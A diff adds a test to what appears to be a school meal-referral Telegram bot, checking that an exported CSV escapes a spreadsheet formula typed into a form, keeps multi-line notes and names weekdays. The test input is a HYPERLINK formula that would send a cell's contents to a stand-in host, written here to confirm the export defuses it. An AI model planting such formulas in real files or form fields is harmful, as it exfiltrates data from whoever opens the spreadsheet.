@@ -4,6 +4,9 @@ the register with allergies flagged, and the details are gone after the retentio
 
 from __future__ import annotations
 
+import codecs
+import csv
+import io
 from datetime import UTC, date, datetime, time
 from pathlib import Path
 
@@ -282,6 +285,55 @@ async def test_exports_of_a_school_and_a_location_are_audited(bot: Rehearsal) ->
     assert rachel.last.filename == "referrals-St-Mark-s.csv"
     exports = await audit.recent(bot.services.db, action="referrals.exported")
     assert len(exports) == 2
+
+
+async def test_the_exported_csv_opens_in_a_spreadsheet_as_words_and_runs_no_formula(
+    bot: Rehearsal,
+) -> None:
+    """Needs typed as a formula, and a note over several lines: the file starts with the
+    byte-order mark (Excel reads it as UTF-8), the formula is shown, not run, the weekdays are
+    named and the caption counts referrals, not lines."""
+    await referred(bot)
+    db, now, cipher = bot.services.db, bot.services.now(), bot.services.cipher
+    assert cipher is not None
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Zoë: peanuts")'
+    await referrals.submit(
+        db,
+        cipher,
+        telegram_id=OKAFOR,
+        now=now,
+        daily_limit=10,
+        form=ReferralForm(
+            reference="HS-015",
+            children=1,
+            age_bands=("Year 1",),
+            needs=formula,
+            note="-1 child today\n+1 next week",
+            preferred_location_ids=(),
+            first_day=date(2026, 7, 28),
+            last_day=date(2026, 8, 27),
+            weekdays=(1, 3),
+            consent=True,
+        ),
+    )
+    rachel = bot.user(RACHEL, "Rachel")
+    await rachel.send("/referrals")
+    await rachel.tap("HS-014 · Hillside Primary · 2 children")
+    await rachel.tap("📍 Place")
+    await rachel.tap("★ St Mark's")
+    await rachel.tap("✅ Place")
+    await rachel.send("/referrals")
+    await rachel.tap("HS-015 · Hillside Primary · 1 child")
+    await rachel.tap("📄 School's CSV")
+    assert rachel.last.text.startswith("📄 2 referrals, with their details.")
+    data = rachel.last.document
+    assert data is not None and data.startswith(codecs.BOM_UTF8)
+    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
+    assert rows["HS-015"]["needs"] == "'" + formula
+    assert rows["HS-015"]["note"] == "'-1 child today\n+1 next week"
+    assert rows["HS-014"]["weekdays"] == "Tue Thu"
+    assert (rows["HS-014"]["from"], rows["HS-014"]["to"]) == ("2026-07-28", "2026-08-27")
+    assert rows["HS-015"]["weekdays"] == ""
 
 
 async def test_a_coordinator_registers_a_partner_school_with_its_area(bot: Rehearsal) -> None:
